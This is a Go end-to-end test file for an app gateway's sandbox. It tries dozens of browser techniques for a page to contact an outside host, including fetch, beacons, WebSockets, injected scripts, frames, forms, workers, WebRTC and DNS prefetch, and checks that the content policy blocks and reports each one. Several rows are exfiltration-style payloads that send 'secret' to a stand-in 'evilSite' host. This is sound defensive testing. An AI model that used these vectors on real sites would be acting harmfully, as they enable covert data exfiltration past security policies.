package gateway

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"paddock/app/e2e/browser"
)

// escape is a way in which an app's page, with no grant at all, tries to reach something outside.
type escape struct {
	name    string
	script  string                  // run in the page as by the user's click; URL is the goal
	doc     string                  // or a document of the app's own, with URL in it
	kind    string                  // its Content-Type, text/html when empty
	header  http.Header             // its header, with URL in it
	status  int                     // its status
	silent  map[browser.Kind]bool   // refuses without telling the page
	leaves  bool                    // the attempt may take the tab along, so it has one of its own
	refused string                  // the directive that the page is told about; none when empty
	via     string                  // "stun", "tcp", "dns": FAR in script and doc is such a goal, and URL is not used
	open    map[browser.Kind]string // why the attempt succeeds today; it must not when empty
	absent  map[browser.Kind]string // why a browser has nothing to try
}

// Reasons of rows that more than one shares.
const (
	openWebRTC = "WebRTC is covered by no policy"
	openHints  = "names to look up and to connect to are covered by no policy"
)

func inChromium(reason string) map[browser.Kind]string {
	return map[browser.Kind]string{browser.Chromium: reason}
}

func everywhere(reason string) map[browser.Kind]string {
	return map[browser.Kind]string{browser.Chromium: reason, browser.Firefox: reason}
}

var (
	inShell      = map[browser.Kind]bool{browser.Chromium: true} // the frame is gone before the page could tell
	inFirefox    = map[browser.Kind]bool{browser.Firefox: true}
	noPing       = map[browser.Kind]string{browser.Firefox: "does not send pings (browser.send_pings)"}
	onlyChromium = map[browser.Kind]string{browser.Firefox: "does not know it"}
)

// escapes by what is used, and in the order of the directives of contentPolicy.
var escapes = []escape{
	{name: "fetch", script: `fetch(URL)`, refused: "connect-src"},
	{name: "fetch-no-cors", script: `fetch(URL, {mode: "no-cors", method: "POST", body: "secret"})`, refused: "connect-src"},
	{name: "xhr", script: `(() => { const x = new XMLHttpRequest(); x.open("GET", URL); x.send() })()`, refused: "connect-src"},
	{name: "beacon", script: `navigator.sendBeacon(URL, "secret")`, refused: "connect-src"},
	{name: "websocket", script: `new WebSocket(URL.replace("http", "ws"))`, refused: "connect-src"},
	{name: "eventsource", script: `new EventSource(URL)`, refused: "connect-src"},
	{name: "ping", script: `put(el("a", {href: "#x", ping: URL})).click()`, refused: "connect-src", absent: noPing},
	{name: "webtransport", script: `new WebTransport(FAR.replace("stun:", "https://")).ready`, via: "stun"},
	{name: "keepalive", script: `fetch(URL, {keepalive: true})`, refused: "connect-src"},

	{name: "script", script: `put(el("script", {src: URL}))`, refused: "script-src-elem"},
	{name: "module", script: `put(el("script", {src: URL, type: "module"}))`, refused: "script-src-elem"},
	{name: "import", script: `import(URL)`, refused: "script-src-elem"},
	{name: "import-json", script: `import(URL, {with: {type: "json"}})`},
	{name: "import-css", script: `import(URL, {with: {type: "css"}})`, absent: onlyChromium},
	{name: "inline-script", script: `put(el("script", {text: "fetch('" + URL + "')"}))`, refused: "script-src-elem"},
	{name: "inline-handler", script: `(() => { const i = el("img", {}); i.setAttribute("onerror", "fetch('" + URL + "')"); i.src = "data:,x"; put(i) })()`, refused: "script-src-attr"},
	{name: "javascript-address", script: `put(el("a", {href: "javascript:void fetch('" + URL + "')"})).click()`, refused: "script-src-elem"},
	{name: "eval", script: `(0, eval)("fetch('" + URL + "')")`, refused: "script-src"},
	{name: "function", script: `new Function("u", "return fetch(u)")(URL)`, refused: "script-src"},
	{name: "timer-text", script: `setTimeout("fetch('" + URL + "')")`, refused: "script-src"},
	{name: "wasm", script: `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => fetch(URL))`, refused: "script-src"},
	{name: "modulepreload", script: `head(el("link", {rel: "modulepreload", href: URL}))`, refused: "script-src-elem", silent: inFirefox},
	{name: "speculation-rules", script: `head(el("script", {type: "speculationrules", text: JSON.stringify({prefetch: [{source: "list", urls: [URL]}]})}))`, refused: "script-src-elem", absent: onlyChromium},
	{name: "header-speculation-rules", doc: `<!doctype html>`, header: http.Header{"Speculation-Rules": {`"/doc/header-speculation-rules?rules"`}}, absent: onlyChromium},
	{name: "svg-script", doc: `<svg xmlns="http://www.w3.org/2000/svg"><script href="URL"/></svg>`, kind: "image/svg+xml"},

	{name: "stylesheet", script: `head(el("link", {rel: "stylesheet", href: URL}))`, refused: "style-src-elem"},
	{name: "style-import", script: `head(el("style", {textContent: "@import url('" + URL + "')"}))`, refused: "style-src-elem"},
	{name: "xml-stylesheet", doc: `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="URL"?><a/>`, kind: "text/xml"},

	{name: "image", script: `put(el("img", {src: URL}))`, refused: "img-src"},
	{name: "image-set", script: `put(el("img", {srcset: URL + " 1x"}))`, refused: "img-src"},
	{name: "background", script: `put(el("div", {style: "width: 9px; height: 9px; background: url('" + URL + "')"}))`, refused: "img-src"},
	{name: "cursor-and-list", script: `put(el("li", {style: "list-style-image: url('" + URL + "')"}))`, refused: "img-src"},
	{name: "svg-image", script: `put(el("div", {innerHTML: "<svg><image href='" + URL + "'/></svg>"}))`, refused: "img-src"},
	{name: "input-image", script: `put(el("input", {type: "image", src: URL}))`, refused: "img-src"},
	{name: "poster", script: `put(el("video", {poster: URL}))`, refused: "img-src"},
	{name: "preload-image", script: `head(el("link", {rel: "preload", as: "image", href: URL}))`, refused: "img-src", silent: inFirefox},

	{name: "audio", script: `put(el("audio", {src: URL, preload: "auto"})).load()`, refused: "media-src"},
	{name: "video", script: `put(el("video", {innerHTML: "<source src='" + URL + "'>", preload: "auto"})).load()`, refused: "media-src"},

	{name: "font", script: `new FontFace("x", "url('" + URL + "')").load()`, refused: "font-src"},
	{name: "font-face", script: `(head(el("style", {textContent: "@font-face { font-family: far; src: url('" + URL + "') }"})), put(el("p", {textContent: "x", style: "font-family: far"})))`, refused: "font-src"},

	{name: "frame", script: `put(el("iframe", {src: URL}))`, refused: "frame-src"},
	{name: "frame-srcdoc", script: `put(el("iframe", {srcdoc: "<img src='" + URL + "'>"}))`},
	{name: "frame-data", script: `put(el("iframe", {src: "data:text/html,<img src='" + URL + "'>"}))`, refused: "frame-src"},
	{name: "frame-blob", script: `put(el("iframe", {src: blob("<img src='" + URL + "'>", "text/html")}))`, refused: "frame-src"},

	{name: "object", script: `put(el("object", {data: URL}))`, refused: "object-src"},
	{name: "embed", script: `put(el("embed", {src: URL}))`, refused: "object-src"},

	{name: "base", script: `(head(el("base", {href: URL})), put(el("img", {src: URL.split("/").at(-1)})))`, leaves: true, refused: "base-uri"},

	{name: "form", script: `submit({action: URL})`, leaves: true, refused: "form-action", silent: inShell},
	{name: "form-post", script: `submit({action: URL, method: "post"})`, leaves: true, refused: "form-action", silent: inShell},
	{name: "form-button", script: `(() => { const f = submit({action: "/"}, true); f.append(el("button", {formAction: URL})); f.lastChild.click() })()`, leaves: true, refused: "form-action", silent: inShell},
	{name: "form-window", script: `submit({action: URL, target: "_blank"})`, leaves: true}, // as a window
	{name: "worker-blob", script: `new Worker(blob("importScripts('" + URL + "')", "text/javascript"))`, refused: "worker-src"},
	{name: "worker-data", script: `new Worker("data:text/javascript,importScripts('" + URL + "')")`, refused: "worker-src"},
	{name: "shared-worker", script: `new SharedWorker(blob("importScripts('" + URL + "')", "text/javascript"))`, refused: "worker-src"},

	{name: "prefetch", script: `head(el("link", {rel: "prefetch", href: URL}))`, refused: "default-src"},

	{name: "window", script: `open(URL)`, leaves: true},
	{name: "window-noopener", script: `open(URL, "_blank", "noopener")`, leaves: true},
	{name: "link-window", script: `put(el("a", {href: URL, target: "_blank"})).click()`, leaves: true},

	{name: "location", script: `location.href = URL`, leaves: true},
	{name: "location-replace", script: `location.replace(URL)`, leaves: true},
	{name: "location-top", script: `top.location = URL`, leaves: true},
	{name: "link", script: `put(el("a", {href: URL})).click()`, leaves: true},
	{name: "meta-refresh", doc: `<!doctype html><meta http-equiv="refresh" content="0; url=URL">`},
	{name: "download", script: `put(el("a", {href: URL, download: "x"})).click()`, leaves: true},

	{name: "webrtc", script: `(async () => { const c = new RTCPeerConnection({iceServers: [{urls: FAR}]}); window.kept = c; c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()) })()`, via: "stun", open: everywhere(openWebRTC)},

	{name: "dns-prefetch", script: `head(el("link", {rel: "dns-prefetch", href: FAR}))`, via: "dns", open: inChromium(openHints)},
	{name: "dns-of-links", script: `put(el("a", {href: FAR, textContent: "x"}))`, via: "dns", absent: inChromium("looks up no links ahead")},
	{name: "dns-by-meta", doc: `<!doctype html><meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="FAR">`, via: "dns", open: inChromium(openHints)},
	{name: "preconnect", script: `head(el("link", {rel: "preconnect", href: FAR}))`, via: "tcp", open: everywhere(openHints)},
	{name: "header-link-preconnect", doc: `<!doctype html>`, header: http.Header{"Link": {"<FAR>; rel=preconnect"}}, via: "tcp"},

	// The headers of security.md 17 that would make a browser call somewhere. Each is dropped; header_test.go has all.
	{name: "header-refresh", doc: `<!doctype html>`, header: http.Header{"Refresh": {"0; url=URL"}}},
	{name: "header-location", doc: `<!doctype html>`, header: http.Header{"Location": {"URL"}}, status: 302},
	{name: "header-link-image", doc: `<!doctype html>`, header: http.Header{"Link": {"<URL>; rel=preload; as=image"}}},
	{name: "header-link-prefetch", doc: `<!doctype html>`, header: http.Header{"Link": {"<URL>; rel=prefetch"}}},
	{name: "header-report-only", doc: `<!doctype html><img src="/none.png">`, header: http.Header{"Content-Security-Policy-Report-Only": {"img-src 'none'; report-uri URL"}}},
	{name: "header-own-report", doc: `<!doctype html><img src="/none.png">`, header: http.Header{"Content-Security-Policy": {"img-src 'none'; report-uri URL"}}},
}

// aids are what the scripts of rows use.
const aids = `
	const el = (tag, props) => { const e = document.createElement(tag); for (const [k, v] of Object.entries(props)) k === "style" ? e.style.cssText = v : e[k] = v; return e };
	const put = (e) => (document.body.append(e), e);
	const head = (e) => (document.head.append(e), e);
	const blob = (text, type) => window.URL.createObjectURL(new Blob([text], {type}));
	const submit = (props, later) => { const f = put(el("form", props)); if (!later) f.submit(); return f };
`

// begin starts an attempt in a page and returns before it has ended. What the policy says is kept in the page. An attempt
// that takes the page elsewhere may be quicker than the answer that it began. A page that the attempt before sent
// elsewhere may just be loading once more.
func (s *scene) begin(p *browser.Page, e escape, side, far string) {
	began := p.Try(fmt.Sprintf(`((URL, FAR) => { %s
		window.told = [];
		if (!window.listening) { window.listening = true; document.addEventListener("securitypolicyviolation", (e) => window.told.push(e.effectiveDirective + " " + e.blockedURI)) }
		(async () => { await 0; if (document.readyState !== "complete") await new Promise((go) => addEventListener("load", go)); try { await (%s) } catch (e) { window.told.push("threw " + e) } })();
		return true })(%q, %q)`, aids, e.script, s.url(e.name, side), far))
	if began != "true" && !(e.leaves && strings.HasPrefix(began, "gone: ")) {
		s.t.Errorf("%s, %s: not begun: %s", e.name, side, began)
	}
}

// far makes a goal that is not an address of the web.
func (s *scene) far(t *testing.T, e escape, side string) string {
	name := e.name + " " + side
	switch e.via {
	case "stun":
		return fmt.Sprintf("stun:127.0.0.1:%d", s.arrived.listenUDP(t, name))
	case "tcp":
		return fmt.Sprintf("http://%s:%d", evilSite, s.arrived.listenTCP(t, name))
	case "dns":
		return "http://" + s.askedFor(name) + "/"
	}
	return ""
}

// reached reports whether an attempt came to its goal.
func (s *scene) reached(e escape, side string) bool {
	name := e.name + " " + side
	if e.via == "dns" {
		return s.resolved(s.askedFor(name))
	}
	return s.arrived.count(name) > 0
}

// leave lets the app's page try to reach something outside, in every way that we know.
func (s *scene) leave(t *testing.T) {
	tab, control := s.b.Open(t, ""), s.b.Open(t, s.bare+"/")
	door := s.reenter(t, tab, "i1")
	for _, e := range escapes {
		t.Run(e.name, func(t *testing.T) {
			if why := e.absent[s.b.Kind]; why != "" {
				t.Log("nothing to try:", s.b.Kind, why)
				return
			}
			far := map[string]string{}
			for _, side := range []string{"door", "bare"} {
				far[side] = s.far(t, e, side)
			}
			if e.doc != "" {
				s.docs.Store(e.name, doc{e.doc, e.kind, e.header, e.status, far})
				browser.Act[bool](door, fmt.Sprintf("(setTimeout(() => location.href = '/doc/%s'), true)", e.name))
				_ = control.Navigate(s.bare + "/doc/" + e.name) // may leave at once
			} else {
				s.begin(door, e, "door", far["door"])
				s.begin(control, e, "bare", far["bare"])
			}
			if e.leaves || e.doc != "" {
				defer func() {
					if e.doc != "" || e.open[s.b.Kind] != "" || door.Try("location.origin + location.pathname") != "http://"+s.r.host+"/" {
						door = s.reenter(t, tab, "i1")
					}
					if err := control.Navigate(s.bare + "/"); err != nil {
						t.Error(err)
					}
				}()
			}
			if !wait(reachTime, func() bool { return s.reached(e, "bare") }) {
				t.Fatalf("the control does not arrive: %s", control.Try("JSON.stringify(window.told)"))
			}
			if why := e.open[s.b.Kind]; why != "" {
				if !wait(reachTime, func() bool { return s.reached(e, "door") }) {
					t.Errorf("closed, though the row says that %s", why)
				}
				return
			}
			if e.refused != "" && !e.silent[s.b.Kind] {
				told := func() []string {
					var of []string
					for _, line := range browser.Eval[[]string](door, "window.told") {
						directive, blocked, _ := strings.Cut(line, " ")
						if !strings.HasPrefix(blocked, "http") || strings.Contains(blocked, s.outside) {
							of = append(of, directive)
						}
					}
					return of
				}
				if !wait(reachTime, func() bool { return slices.Contains(told(), e.refused) }) {
					t.Errorf("the page is told %q, want %s", browser.Eval[[]string](door, "window.told"), e.refused)
				}
			}
		})
	}
	for _, e := range escapes {
		if e.open[s.b.Kind] == "" && s.reached(e, "door") {
			t.Errorf("%s: got out", e.name)
		}
	}
	// Each refusal is reported to the host, with the permission that would have allowed it.
	counted := func(used string) bool {
		s.r.back.mu.Lock()
		defer s.r.back.mu.Unlock()
		return slices.Contains(s.r.back.used, "i1 page "+used+" false")
	}
	for _, used := range []string{"net:" + evilSite + ":" + s.outside, "browser:eval", "browser:inline-script", "browser:wasm"} {
		if !wait(reachTime, func() bool { return counted(used) }) {
			t.Errorf("not counted: %s", used)
		}
	}
}
